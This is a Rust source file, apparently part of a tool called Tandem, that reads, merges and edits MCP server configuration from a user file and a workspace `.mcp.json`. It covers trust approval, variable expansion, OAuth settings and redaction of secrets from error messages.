//! Which downstream MCP servers a workspace has: the user's config file and the workspace's
//! `.mcp.json` (the usual `mcpServers` format), merged (the workspace wins, server by
//! server, once the user approved it), with `${VAR}`, `${env:VAR}` and `${VAR:-default}` expanded from the environment
//! and `${workspaceFolder}` to the workspace's root.
//!
//! A workspace file is somebody else's until the user approves it (`trust`): until then
//! nothing in it is expanded (a variable would hand the daemon's environment to whoever
//! wrote it), its `conventionalPrompts` are left out and its entries replace none of the
//! user's; its servers are listed as written, and never run. Nothing expanded is ever shown: a problem names the field and shows its
//! text as written, and [`ServerConfig::redact`] takes expanded values back out of the
//! messages a server's failures make.
//!
//! A server of the user's file starts in the user's home directory (the data dir when
//! there is none), not in the workspace: launchers look in their working directory first
//! (`npx` runs a package's `node_modules/.bin`, `python -m` a module file), and a
//! repository must not get its code run by the user's own entries. An entry that wants the
//! workspace says `"cwd": "${workspaceFolder}"`. A trusted workspace file's servers start
//! in the workspace.
//!
//! A file that does not parse is an error naming the file (and the line); a server whose
//! entry is wrong (a field of the wrong type, neither `command` nor `url`, an unset
//! variable) is kept, marked with an error naming the file, the server and the field, so
//! the others still run and the user sees why that one does not.

pub mod import;
pub mod known_servers;
mod placeholder;
pub mod setup;
pub mod trust;

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::time::Duration;

use serde::{Deserialize, Serialize};
use serde_json::Value;

use super::scan;
use crate::guarded_file::{self, CONFIG_MAX_BYTES, GuardedFileError};
use crate::user_config;

/// The workspace's file, at its root.
pub const WORKSPACE_FILE: &str = ".mcp.json";
/// How long a request to a downstream server may take, unless its `timeout_ms` says.
pub const DEFAULT_TIMEOUT: Duration = Duration::from_secs(10);
/// How long a server's question that a person answers (a form, a page to visit, a
/// completion the agent's user may approve) may wait, unless its `question_timeout_ms` says:
/// people take longer than a request timeout.
pub const DEFAULT_QUESTION_TIMEOUT: Duration = Duration::from_secs(300);
/// The variable that expands to the workspace's root, as in VS Code's `mcp.json`.
pub const WORKSPACE_FOLDER: &str = "workspaceFolder";
/// How long a server has to start (answer `initialize` and the first lists), unless its
/// `start_timeout_ms` says.
pub const DEFAULT_START_TIMEOUT: Duration = Duration::from_secs(20);
/// How long a new agent session's first answers wait for boot servers still starting,
/// unless the user's `bootWaitMs` says.
pub const DEFAULT_BOOT_WAIT: Duration = Duration::from_secs(3);
/// The longest `bootWaitMs` taken: an agent waits for its first answer that long at most.
pub const MAX_BOOT_WAIT: Duration = Duration::from_secs(60);
/// The user file's key of that wait.
pub const BOOT_WAIT_KEY: &str = "bootWaitMs";

/// A configuration problem, located.
#[derive(Debug, Clone, PartialEq, thiserror::Error, Serialize)]
#[error("{}{}{}: {message}", file.display(), server.as_deref().map(|s| format!(": server '{s}'")).unwrap_or_default(), field.as_deref().map(|f| format!(", field '{f}'")).unwrap_or_default())]
pub struct ConfigProblem {
    pub file: PathBuf,
    pub server: Option<String>,
    pub field: Option<String>,
    pub message: String,
}

/// Where a server's entry comes from. Workspace entries run only once the file is trusted.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(tag = "kind", content = "file", rename_all = "snake_case")]
pub enum Origin {
    User(PathBuf),
    Workspace(PathBuf),
}

impl Origin {
    pub fn file(&self) -> &Path {
        match self {
            Origin::User(p) | Origin::Workspace(p) => p,
        }
    }
}

#[derive(Debug, Clone, PartialEq, Serialize)]
#[serde(tag = "transport", rename_all = "snake_case")]
pub enum Transport {
    Stdio {
        command: String,
        args: Vec<String>,
        env: BTreeMap<String, String>,
        cwd: PathBuf,
    },
    Http {
        url: String,
        headers: BTreeMap<String, String>,
        /// Its sign-in settings (never shown: they may carry a token or a secret).
        #[serde(skip)]
        oauth: OAuth,
    },
}

/// A remote server's `oauth` settings (spec 001's activation step 6, and the client Tandem
/// signs in as). None is passed to the server but `accessToken`, as its bearer token.
#[derive(Clone, Default, PartialEq)]
pub struct OAuth {
    /// A token the user already has: sent as `Authorization: Bearer`, no sign-in.
    pub access_token: Option<String>,
    /// A client registered with the authorization server ahead of time (else Tandem
    /// registers itself, where the server allows it).
    pub client_id: Option<String>,
    pub client_secret: Option<String>,
    /// The HTTPS URL of a Client ID Metadata Document describing Tandem, hosted by the user
    /// or their organisation: the client ID where the authorization server takes such
    /// documents (else Tandem registers itself).
    pub client_metadata_url: Option<String>,
    /// The scopes to ask for (else those the server names).
    pub scopes: Vec<String>,
    /// How long a sign-in waits for the user's approval.
    pub sign_in_timeout: Option<Duration>,
}

impl std::fmt::Debug for OAuth {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let hidden = |v: &Option<String>| v.as_ref().map(|_| "[hidden]");
        f.debug_struct("OAuth")
            .field("access_token", &hidden(&self.access_token))
            .field("client_id", &self.client_id)
            .field("client_secret", &hidden(&self.client_secret))
            .field("client_metadata_url", &self.client_metadata_url)
            .field("scopes", &self.scopes)
            .field("sign_in_timeout", &self.sign_in_timeout)
            .finish()
    }
}

impl Transport {
    /// What runs, as a user reads it: the command line, or the URL.
    pub fn describe(&self) -> String {
        match self {
            Transport::Stdio { command, args, .. } => std::iter::once(command.as_str())
                .chain(args.iter().map(String::as_str))
                .map(|a| {
                    if a.is_empty()
                        || a.contains(|c: char| c.is_whitespace() || "'\"\\$`".contains(c))
                    {
                        format!("'{}'", a.replace('\'', r"'\''"))
                    } else {
                        a.to_string()
                    }
                })
                .collect::<Vec<_>>()
                .join(" "),
            Transport::Http { url, .. } => url.clone(),
        }
    }

    /// Whether this entry starts Tandem's own MCP face (`tandem mcp ...`): the entry an
    /// agent's `.mcp.json` has for Tandem, which the hub must not connect to (it would be a
    /// client of its own daemon, keep it from ever going idle, and bring Tandem's prompts
    /// twice). The command is Tandem when it is named `tandem` or is this very executable.
    pub fn is_tandem_itself(&self) -> bool {
        let Transport::Stdio { command, args, .. } = self else {
            return false;
        };
        if args.first().map(String::as_str) != Some("mcp") {
            return false;
        }
        let command = Path::new(command);
        if command.file_name().is_some_and(|n| n == "tandem") {
            return true;
        }
        let found = if command.components().count() > 1 {
            Some(command.to_path_buf())
        } else {
            std::env::var_os("PATH").and_then(|path| {
                std::env::split_paths(&path)
                    .map(|dir| dir.join(command))
                    .find(|p| p.is_file())
            })
        };
        let same = |a: &Path, b: &Path| matches!((a.canonicalize(), b.canonicalize()), (Ok(a), Ok(b)) if a == b);
        match (found, std::env::current_exe()) {
            (Some(found), Ok(exe)) => same(&found, &exe),
            _ => false,
        }
    }
}

/// One downstream server, resolved.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct ServerConfig {
    pub name: String,
    pub origin: Origin,
    /// `None` when the entry is wrong: `error` says why.
    pub transport: Option<Transport>,
    pub error: Option<ConfigProblem>,
    pub disabled: bool,
    /// Connect when the workspace opens (default), or on first use.
    pub autostart: bool,
    /// Never deactivated by an agent; `None`: as the catalog knows the server
    /// ([`ServerConfig::is_core`]).
    pub core: Option<bool>,
    /// The credentials it lacks: each variable its `env`, `headers`, `args` or `url` uses
    /// that is unset, and each `env` key or header whose value is a placeholder. Names only.
    pub missing_env_keys: Vec<String>,
    /// What it runs as written (variables unexpanded): the command line, or the URL.
    pub runs: Option<String>,
    /// Each expanded value that differs from its text as written, with that text: what
    /// [`ServerConfig::redact`] takes out of messages.
    #[serde(skip)]
    pub expanded: Vec<(String, String)>,
    pub category: Option<String>,
    pub description: Option<String>,
    pub disabled_prompts: BTreeSet<String>,
    #[serde(with = "millis")]
    pub timeout: Duration,
    #[serde(with = "millis")]
    pub start_timeout: Duration,
    /// How long its questions for a person may wait for their answer.
    #[serde(with = "millis")]
    pub question_timeout: Duration,
}

mod millis {
    pub fn serialize<S: serde::Serializer>(
        d: &std::time::Duration,
        s: S,
    ) -> Result<S::Ok, S::Error> {
        s.serialize_u64(d.as_millis() as u64)
    }
}

/// Settings of the conventional prompts injection (spec 000), by server name (`tandem` for
/// Tandem's own prompts).
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Conventional {
    /// Off turns the whole injection off.
    #[serde(default)]
    pub enabled: Option<bool>,
    #[serde(default)]
    pub servers: BTreeMap<String, ServerRules>,
}

#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ServerRules {
    #[serde(default)]
    pub enabled: Option<bool>,
    /// Lower comes first within each kind of prompt; default 0, ties keep server order.
    #[serde(default)]
    pub priority: Option<i64>,
    /// Workspace roots (globs; `~` is the home dir) where this server's prompts apply; empty:
    /// everywhere.
    #[serde(default)]
    pub workspaces: Vec<String>,
    /// Models (globs, case-insensitive, e.g. `claude-*`) the injection is for; empty: any.
    /// A request that names no model gets none of the prompts limited to models.
    #[serde(default)]
    pub models: Vec<String>,
    /// Chat threads (globs, case-insensitive, on the id or name the request gives as
    /// `thread`) the injection is for; empty: any. A request that names no thread gets none
    /// of the prompts limited to threads.
    #[serde(default)]
    pub threads: Vec<String>,
    /// How long this server's fetched conventional prompts are kept, in seconds, for servers
    /// whose prompts' text changes without a `list_changed`; default: until the list, the
    /// server or the config changes.
    #[serde(default)]
    pub max_age_secs: Option<u64>,
    /// By prompt name.
    #[serde(default)]
    pub prompts: BTreeMap<String, PromptRules>,
}

#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct PromptRules {
    #[serde(default)]
    pub enabled: Option<bool>,
    #[serde(default)]
    pub priority: Option<i64>,
    #[serde(default)]
    pub workspaces: Vec<String>,
    #[serde(default)]
    pub models: Vec<String>,
    #[serde(default)]
    pub threads: Vec<String>,
    /// The prompt's arguments, given to `prompts/get`.
    #[serde(default)]
    pub arguments: BTreeMap<String, String>,
}

/// A condition of the injection settings: what a request names and the rules limit.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Condition {
    /// `models`, matched against the request's `model`.
    Model,
    /// `threads`, matched against the request's `thread`.
    Thread,
}

impl ServerRules {
    /// The globs of a condition (empty: no limit).
    pub fn globs(&self, condition: Condition) -> &[String] {
        match condition {
            Condition::Model => &self.models,
            Condition::Thread => &self.threads,
        }
    }
}

impl PromptRules {
    /// The globs of a condition (empty: the server's apply).
    pub fn globs(&self, condition: Condition) -> &[String] {
        match condition {
            Condition::Model => &self.models,
            Condition::Thread => &self.threads,
        }
    }
}

/// A change to one conventional prompt's settings (`conventionalPrompts.servers.S.prompts.P`).
#[derive(Debug, Clone, Default, PartialEq)]
pub struct PromptSettingsChange {
    /// Turn the prompt on or off; `None` leaves it as it is.
    pub enabled: Option<bool>,
    /// Arguments to set (`Some`) or remove (`None`).
    pub arguments: BTreeMap<String, Option<String>>,
}

/// The top-level key of the injection settings.
pub const CONVENTIONAL_KEY: &str = "conventionalPrompts";

/// Applies `change` to the settings of `server`'s `prompt` in the user's config file (created
/// when missing). Only the `conventionalPrompts` member is rewritten (keys sorted, the file's
/// indent); every other member stays byte for byte as the user wrote it ([`edit_member`]).
pub fn edit_prompt_settings(
    file: &Path,
    server: &str,
    prompt: &str,
    change: &PromptSettingsChange,
) -> Result<(), ConfigProblem> {
    edit_member(file, CONVENTIONAL_KEY, |raw, indent| {
        let mut settings: Value = match raw {
            Some(raw) => serde_json::from_str(raw).expect("a member of valid JSON"),
            None => Value::Object(Default::default()),
        };
        let field_error = |field: String| ConfigProblem {
            file: file.to_path_buf(),
            server: Some(server.to_string()),
            field: Some(field),
            message: "must be an object for Tandem to edit it".into(),
        };
        let mut slot = &mut settings;
        let mut path = CONVENTIONAL_KEY.to_string();
        for key in ["servers", server, "prompts", prompt] {
            let Some(object) = slot.as_object_mut() else {
                return Err(field_error(path));
            };
            path = format!("{path}.{key}");
            slot = object
                .entry(key)
                .or_insert_with(|| Value::Object(Default::default()));
        }
        let Some(rules) = slot.as_object_mut() else {
            return Err(field_error(path));
        };
        if let Some(enabled) = change.enabled {
            rules.insert("enabled".into(), Value::Bool(enabled));
        }
        if !change.arguments.is_empty() {
            let arguments = rules
                .entry("arguments")
                .or_insert_with(|| Value::Object(Default::default()));
            let Some(arguments) = arguments.as_object_mut() else {
                return Err(field_error(format!("{path}.arguments")));
            };
            for (name, value) in &change.arguments {
                match value {
                    Some(v) => arguments.insert(name.clone(), Value::String(v.clone())),
                    None => arguments.remove(name),
                };
            }
            if arguments.is_empty() {
                rules.remove("arguments");
            }
        }
        Ok(pretty_at(&settings, indent, 1))
    })
}

/// The key of the servers in the user's file.
pub const SERVERS_KEY: &str = "mcpServers";

/// Adds servers to the user's config file (created when missing), or replaces the entries
/// of those names. Only the `mcpServers` member is rewritten, and within it only the named
/// entries: the others keep their text byte for byte, and so do the file's other members
/// ([`edit_member`]). New entries follow the file's indent.
pub fn edit_servers<E: Serialize>(
    file: &Path,
    entries: &[(String, E)],
) -> Result<(), ConfigProblem> {
    edit_member(file, SERVERS_KEY, |raw, indent| {
        edit_entries(file, SERVERS_KEY, raw, indent, entries, &[])
    })
}

/// A servers object's new text (`raw`, `None` when absent; at depth 1 of a file indented
/// with `indent`): the entries of `set` added or replaced, those named in `remove` taken
/// out, every other entry's text kept byte for byte. `key` names the member in the problem
/// when it is not an object.
pub fn edit_entries<E: Serialize>(
    file: &Path,
    key: &str,
    raw: Option<&str>,
    indent: &str,
    set: &[(String, E)],
    remove: &[String],
) -> Result<String, ConfigProblem> {
    let mut members = match raw {
        Some(raw) => scan::object_members(raw).ok_or_else(|| ConfigProblem {
            file: file.to_path_buf(),
            server: None,
            field: Some(key.into()),
            message: "must be an object for Tandem to add servers to it".into(),
        })?,
        None => Vec::new(),
    };
    members.retain(|(name, _)| !remove.contains(name));
    let written: Vec<String> = set
        .iter()
        .map(|(_, entry)| pretty_at(entry, indent, 2))
        .collect();
    for ((name, _), text) in set.iter().zip(&written) {
        match members.iter_mut().find(|(k, _)| k == name) {
            Some(member) => member.1 = text,
            None => members.push((name.clone(), text)),
        }
    }
    Ok(scan::object_text_at(&members, indent, 1))
}

/// Rewrites one top-level member of the user's config file (created when missing): `edit`
/// gets the member's raw text (`None` when absent) and the file's indent, and answers the
/// member's new text, written at depth 1. Every other member stays byte for byte as the
/// user wrote it (members are spliced as raw JSON text); the file is replaced atomically (a
/// temporary file renamed over it). A file that is not a JSON object is refused, never
/// overwritten. The one way Tandem writes the user's file: callers hold
/// `Hub::user_file_edit` around it.
pub fn edit_member(
    file: &Path,
    key: &str,
    edit: impl FnOnce(Option<&str>, &str) -> Result<String, ConfigProblem>,
) -> Result<(), ConfigProblem> {
    let text = read_user_file(file)?.unwrap_or_default();
    let new_text = edit_member_text(file, &text, key, edit)?;
    if let Some(dir) = file.parent() {
        std::fs::create_dir_all(dir)
            .map_err(|e| file_error(file, format!("cannot create its directory: {e}")))?;
    }
    crate::store::write_atomically(file, new_text.as_bytes())
        .map_err(|e| file_error(file, format!("cannot write it: {e}")))
}

/// [`edit_member`] on a JSON object's text (`file`'s, named in problems; empty when the
/// file does not exist): the new text, every other member as it was written.
pub fn edit_member_text(
    file: &Path,
    text: &str,
    key: &str,
    edit: impl FnOnce(Option<&str>, &str) -> Result<String, ConfigProblem>,
) -> Result<String, ConfigProblem> {
    let mut members = if text.trim().is_empty() {
        Vec::new()
    } else {
        scan::object_members(text).ok_or_else(|| {
            file_error(
                file,
                "not a valid JSON object; fix it before Tandem edits it".into(),
            )
        })?
    };
    // The file's own indent (that of its first member), else two spaces.
    let indent = scan::member_indent(text).unwrap_or("  ");
    let at = members.iter().position(|(k, _)| k == key);
    let edited = edit(at.map(|i| members[i].1), indent)?;
    match at {
        Some(i) => members[i].1 = &edited,
        None => members.push((key.to_string(), &edited)),
    }
    Ok(scan::object_text(&members, indent))
}

/// The user's config file's text; `None` when it does not exist (yet). Refused when
/// another user could have written it ([`user_config::read`]).
pub fn read_user_file(file: &Path) -> Result<Option<String>, ConfigProblem> {
    text_of(file, user_config::read(file))
}

/// A config file's text from what one of [`guarded_file`]'s readers made of `file` (a
/// regular file, of bounded size); `None` when it does not exist.
fn text_of(
    file: &Path,
    read: Result<Option<Vec<u8>>, GuardedFileError>,
) -> Result<Option<String>, ConfigProblem> {
    let bytes = read.map_err(|e| file_error(file, e.problem.to_string()))?;
    bytes
        .map(|b| guarded_file::utf8(b).map_err(|e| file_error(file, e.to_string())))
        .transpose()
}

/// `value` pretty-printed with `indent`, for a place `depth` levels deep in the file (its
/// lines after the first are indented that much more).
pub fn pretty_at(value: &impl Serialize, indent: &str, depth: usize) -> String {
    let mut pretty = Vec::new();
    let formatter = serde_json::ser::PrettyFormatter::with_indent(indent.as_bytes());
    serde::Serialize::serialize(
        value,
        &mut serde_json::Serializer::with_formatter(&mut pretty, formatter),
    )
    .expect("plain data");
    String::from_utf8(pretty)
        .expect("JSON is UTF-8")
        .replace('\n', &format!("\n{}", indent.repeat(depth)))
}

/// A workspace's servers and settings, from both files.
#[derive(Debug, Clone, Default, PartialEq, Serialize)]
pub struct HubConfig {
    pub servers: BTreeMap<String, ServerConfig>,
    pub conventional: Conventional,
    /// Files that could not be read or parsed at all.
    pub errors: Vec<ConfigProblem>,
    /// The workspace file and its exact content, when there is one (what trust approves).
    #[serde(skip)]
    pub workspace_file: Option<(PathBuf, String)>,
    /// Whether that content is approved: only then do its entries expand, its servers run
    /// and its `conventionalPrompts` apply.
    #[serde(skip)]
    pub workspace_trusted: bool,
    /// The entries of a workspace file not approved that name a server of the user's file:
    /// the user's runs meanwhile, these are what approving the file would put in its place.
    #[serde(skip)]
    pub held_back: Vec<ServerConfig>,
    /// The user file's `bootWaitMs`, when it gives one ([`HubConfig::boot_wait`]).
    #[serde(skip)]
    pub boot_wait_ms: Option<u64>,
}

impl HubConfig {
    /// How long a new agent session's first answers (`initialize`, its first lists) wait
    /// for boot servers still starting.
    pub fn boot_wait(&self) -> Duration {
        self.boot_wait_ms
            .map_or(DEFAULT_BOOT_WAIT, Duration::from_millis)
    }

    /// Whether a server would start with the workspace: a boot server that may run (its
    /// file's trust aside).
    pub fn has_boot_servers(&self) -> bool {
        self.servers.values().any(|s| {
            s.autostart && !s.disabled && s.error.is_none() && s.missing_env_keys.is_empty()
        })
    }
}

/// An entry as written. Unknown fields are ignored: other clients add their own.
#[derive(Debug, Default, Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawFile {
    #[serde(default)]
    mcp_servers: BTreeMap<String, Value>,
    #[serde(default)]
    conventional_prompts: Option<Value>,
    /// Read as a value, so that a wrong one is a problem of its own, not of the file.
    #[serde(default, alias = "boot_wait_ms")]
    boot_wait_ms: Option<Value>,
}

#[derive(Debug, Deserialize)]
struct RawServer {
    #[serde(rename = "type", default)]
    kind: Option<String>,
    #[serde(default)]
    command: Option<String>,
    #[serde(default)]
    args: Vec<String>,
    #[serde(default)]
    env: BTreeMap<String, String>,
    #[serde(default)]
    cwd: Option<String>,
    #[serde(default)]
    url: Option<String>,
    #[serde(default)]
    headers: BTreeMap<String, String>,
    #[serde(default)]
    disabled: bool,
    #[serde(default)]
    autostart: Option<bool>,
    #[serde(default)]
    core: Option<bool>,
    #[serde(default)]
    category: Option<String>,
    #[serde(default)]
    description: Option<String>,
    #[serde(default, alias = "disabledPrompts")]
    disabled_prompts: Vec<String>,
    #[serde(default, alias = "timeoutMs")]
    timeout_ms: Option<u64>,
    #[serde(default, alias = "startTimeoutMs")]
    start_timeout_ms: Option<u64>,
    #[serde(default, alias = "questionTimeoutMs")]
    question_timeout_ms: Option<u64>,
    #[serde(default)]
    oauth: Option<RawOAuth>,
}

/// An entry's `oauth`, as written.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct RawOAuth {
    #[serde(default, alias = "accessToken")]
    access_token: Option<String>,
    #[serde(default, alias = "clientId")]
    client_id: Option<String>,
    #[serde(default, alias = "clientSecret")]
    client_secret: Option<String>,
    #[serde(default, alias = "clientMetadataUrl")]
    client_metadata_url: Option<String>,
    #[serde(default)]
    scopes: Vec<String>,
    #[serde(default, alias = "signInTimeoutMs")]
    sign_in_timeout_ms: Option<u64>,
}

/// What a session's start needs to know before the hub is open: how long its first answers
/// wait for boot servers, and whether any may start (a workspace file's counted as if it
/// were approved). Reads both files, without running anything.
pub fn boot_plan(user_file: &Path, workspace: &Path) -> (Duration, bool) {
    let env = |var: &str| std::env::var(var).ok();
    let config = load(user_file, workspace, &env, &|_, _| true);
    (config.boot_wait(), config.has_boot_servers())
}

/// Reads and merges the user's file and the workspace's (either may be missing).
/// `trusted` says whether the workspace file, with this content, is approved. `env` gives
/// the variables; `HOME` is also where the user's servers start (the data dir, the user file's
/// folder, when it is unset or no directory).
pub fn load(
    user_file: &Path,
    workspace: &Path,
    env: &dyn Fn(&str) -> Option<String>,
    trusted: &dyn Fn(&Path, &str) -> bool,
) -> HubConfig {
    let mut config = HubConfig::default();
    let home = env("HOME")
        .map(PathBuf::from)
        .filter(|h| h.is_absolute() && h.is_dir())
        .unwrap_or_else(|| user_file.parent().unwrap_or(Path::new("/")).to_path_buf());
    let dirs = Dirs { workspace, home };
    let workspace_file = workspace.join(WORKSPACE_FILE);
    for (file, is_workspace) in [(user_file.to_path_buf(), false), (workspace_file, true)] {
        let read = if is_workspace {
            guarded_file::read_regular(&file, CONFIG_MAX_BYTES)
        } else {
            user_config::read(&file)
        };
        let text = match text_of(&file, read) {
            Ok(Some(t)) => t,
            Ok(None) => continue,
            Err(e) => {
                config.errors.push(e);
                continue;
            }
        };
        let approved = !is_workspace || trusted(&file, &text);
        if is_workspace {
            config.workspace_trusted = approved;
            config.workspace_file = Some((file.clone(), text.clone()));
        }
        let raw: RawFile = match serde_json::from_str(&text) {
            Ok(r) => r,
            Err(e) => {
                config
                    .errors
                    .push(file_error(&file, format!("not valid JSON: {e}")));
                continue;
            }
        };
        let origin = if is_workspace {
            Origin::Workspace(file.clone())
        } else {
            Origin::User(file.clone())
        };
        let env = approved.then_some(env);
        for (name, value) in raw.mcp_servers {
            let server = resolve(&name, value, origin.clone(), &dirs, env);
            // The workspace's entry replaces the user's of the same name (an entry for
            // Tandem itself, by removing it), once the file is approved.
            if !approved && config.servers.contains_key(&name) {
                config.held_back.push(server);
                continue;
            }
            if server
                .transport
                .as_ref()
                .is_some_and(Transport::is_tandem_itself)
            {
                tracing::debug!(
                    "MCP server '{name}' of {} is Tandem itself; not connected",
                    file.display()
                );
                config.servers.remove(&name);
                continue;
            }
            config.servers.insert(name, server);
        }
        // A workspace's file does not make the user's agents wait.
        if let Some(v) = raw.boot_wait_ms.filter(|_| !is_workspace) {
            match v
                .as_u64()
                .filter(|ms| *ms <= MAX_BOOT_WAIT.as_millis() as u64)
            {
                Some(ms) => config.boot_wait_ms = Some(ms),
                None => config.errors.push(ConfigProblem {
                    file: file.clone(),
                    server: None,
                    field: Some(BOOT_WAIT_KEY.to_string()),
                    message: format!(
                        "must be a whole number of milliseconds from 0 to {}",
                        MAX_BOOT_WAIT.as_millis()
                    ),
                }),
            }
        }
        if let Some(v) = raw.conventional_prompts.filter(|_| approved) {
            match serde_path_to_error::deserialize::<_, Conventional>(v) {
                Ok(c) => merge_conventional(&mut config.conventional, c),
                Err(e) => config.errors.push(ConfigProblem {
                    file: file.clone(),
                    server: None,
                    field: Some(format!("conventionalPrompts.{}", e.path())),
                    message: e.inner().to_string(),
                }),
            }
        }
    }
    config
}

/// The entry of a server given by its URL alone (`tandem servers check URL`): a Streamable
/// HTTP server with the default settings, named by its URL, as if in the user's file.
/// Nothing in it expands: the shell did that.
pub fn url_entry(url: &str, user_file: &Path) -> Result<ServerConfig, ConfigProblem> {
    let problem = |message: String| ConfigProblem {
        file: PathBuf::from(url),
        server: None,
        field: None,
        message,
    };
    if !(url.starts_with("http://") || url.starts_with("https://")) {
        return Err(problem("is not an http(s) URL".into()));
    }
    match reqwest::Url::parse(url) {
        Ok(u) if u.host_str().is_some_and(|h| !h.is_empty()) => {}
        Ok(_) => return Err(problem("is not a URL: it names no host".into())),
        Err(e) => return Err(problem(format!("is not a URL: {e}"))),
    }
    let dir = user_file.parent().unwrap_or(Path::new("/"));
    let dirs = Dirs {
        workspace: dir,
        home: dir.to_path_buf(),
    };
    let value = serde_json::json!({"type": "http", "url": url});
    let server = resolve(
        url,
        value,
        Origin::User(user_file.to_path_buf()),
        &dirs,
        None,
    );
    match server.error {
        Some(e) => Err(e),
        None => Ok(server),
    }
}

fn file_error(file: &Path, message: String) -> ConfigProblem {
    ConfigProblem {
        file: file.to_path_buf(),
        server: None,
        field: None,
        message,
    }
}

fn merge_conventional(into: &mut Conventional, from: Conventional) {
    if from.enabled.is_some() {
        into.enabled = from.enabled;
    }
    for (name, rules) in from.servers {
        let slot = into.servers.entry(name).or_default();
        if rules.enabled.is_some() {
            slot.enabled = rules.enabled;
        }
        if rules.priority.is_some() {
            slot.priority = rules.priority;
        }
        if !rules.workspaces.is_empty() {
            slot.workspaces = rules.workspaces;
        }
        if !rules.models.is_empty() {
            slot.models = rules.models;
        }
        if !rules.threads.is_empty() {
            slot.threads = rules.threads;
        }
        if rules.max_age_secs.is_some() {
            slot.max_age_secs = rules.max_age_secs;
        }
        slot.prompts.extend(rules.prompts);
    }
}

/// Where an entry's servers start: a trusted workspace file's in the workspace, the user's
/// in the user's home.
struct Dirs<'a> {
    workspace: &'a Path,
    home: PathBuf,
}

/// One server's entry, resolved: its settings, then its transport, expanded with `env`
/// (`None`: expand nothing, the entry of a file not trusted). A wrong entry keeps the
/// settings read before the problem and carries the problem as its `error`; an entry
/// lacking credentials names every one (`missing_env_keys`) and its first as the error.
fn resolve(
    name: &str,
    value: Value,
    origin: Origin,
    dirs: &Dirs,
    env: Option<Vars>,
) -> ServerConfig {
    let workspace_folder = dirs.workspace.display().to_string();
    let vars = |var: &str| match var {
        WORKSPACE_FOLDER => Some(workspace_folder.clone()),
        _ => env.and_then(|env| env(var)),
    };
    let entry = Entry {
        env: env.is_some().then_some(&vars as Vars),
        ..Entry::new(name, &origin)
    };
    let as_written = Entry::new(name, &origin);
    let mut server = ServerConfig::unresolved(name, origin.clone());
    let transport = read_entry(&entry, value).and_then(|raw| {
        apply_settings(&mut server, &entry, &raw)?;
        let written = transport(&as_written, &raw, dirs);
        server.runs = written.as_ref().ok().map(Transport::describe);
        let expanded = transport(&entry, &raw, dirs)?;
        if let Ok(written) = &written {
            server.expanded = expanded_values(&expanded, written);
        }
        Ok(expanded)
    });
    for (var, value) in entry.used.take() {
        if value.chars().count() >= MIN_REDACTED_CHARS {
            server.expanded.push((value, format!("${{{var}}}")));
        }
    }
    // Longest first, so that a value is not cut by a shorter one it contains.
    server
        .expanded
        .sort_by(|a, b| b.0.len().cmp(&a.0.len()).then_with(|| a.cmp(b)));
    server.expanded.dedup();
    let missing = entry.missing.into_inner();
    match (transport, missing.first()) {
        (Ok(_), Some(first)) => server.error = Some(first.problem.clone()),
        (Ok(t), None) => server.transport = Some(t),
        (Err(e), _) => server.error = Some(e),
    }
    for m in missing {
        if !server.missing_env_keys.contains(&m.key) {
            server.missing_env_keys.push(m.key);
        }
    }
    server
}

/// A variable's value shorter than this is not taken out of messages: it would cut words
/// apart, and a secret is never that short.
const MIN_REDACTED_CHARS: usize = 4;

/// Each value of `expanded` that differs from its text in `written`, with that text.
fn expanded_values(expanded: &Transport, written: &Transport) -> Vec<(String, String)> {
    let pairs: Vec<(&String, &String)> = match (expanded, written) {
        (
            Transport::Stdio {
                command, args, env, ..
            },
            Transport::Stdio {
                command: c,
                args: a,
                env: e,
                ..
            },
        ) => std::iter::once((command, c))
            .chain(args.iter().zip(a))
            .chain(env.values().zip(e.values()))
            .collect(),
        (
            Transport::Http {
                url,
                headers,
                oauth,
            },
            Transport::Http {
                url: u,
                headers: h,
                oauth: o,
            },
        ) => std::iter::once((url, u))
            .chain(headers.values().zip(h.values()))
            .chain(oauth.access_token.iter().zip(&o.access_token))
            .chain(oauth.client_secret.iter().zip(&o.client_secret))
            .collect(),
        _ => Vec::new(),
    };
    pairs
        .into_iter()
        .filter(|(e, w)| e != w && !e.is_empty())
        .map(|(e, w)| (e.clone(), w.clone()))
        .collect()
}

impl ServerConfig {
    /// `text` (a failure's message, say) with every value expanded in this entry written
    /// back as the entry has it (`${TOKEN}`, not the token).
    pub fn redact(&self, text: &str) -> String {
        let mut text = text.to_string();
        for (value, written) in &self.expanded {
            if text.contains(value.as_str()) {
                text = text.replace(value.as_str(), written);
            }
        }
        text
    }

    /// Whether an agent may never deactivate it: as its entry says, else as the catalog
    /// knows the server.
    pub fn is_core(&self) -> bool {
        self.core
            .unwrap_or_else(|| self.well_known().is_some_and(|k| k.core))
    }

    /// The well-known server this entry is ([`known_servers::find`]): by its name, else by
    /// what a stdio entry runs.
    pub fn well_known(&self) -> Option<&'static known_servers::Known> {
        let runs: Vec<&str> = match &self.transport {
            Some(Transport::Stdio { command, args, .. }) => std::iter::once(command)
                .chain(args)
                .map(String::as_str)
                .collect(),
            _ => Vec::new(),
        };
        known_servers::find(&self.name, runs)
    }

    /// A server with the defaults, before its entry is read.
    fn unresolved(name: &str, origin: Origin) -> ServerConfig {
        ServerConfig {
            name: name.to_string(),
            origin,
            transport: None,
            error: None,
            disabled: false,
            autostart: true,
            core: None,
            missing_env_keys: Vec::new(),
            runs: None,
            expanded: Vec::new(),
            category: None,
            description: None,
            disabled_prompts: BTreeSet::new(),
            timeout: DEFAULT_TIMEOUT,
            start_timeout: DEFAULT_START_TIMEOUT,
            question_timeout: DEFAULT_QUESTION_TIMEOUT,
        }
    }
}

/// The entry being resolved: where its problems are reported, how its variables expand
/// (`None`: they are kept as written), the credentials found missing so far and the
/// variables expanded (name and value).
struct Entry<'a> {
    name: &'a str,
    origin: &'a Origin,
    env: Option<Vars<'a>>,
    missing: std::cell::RefCell<Vec<Missing>>,
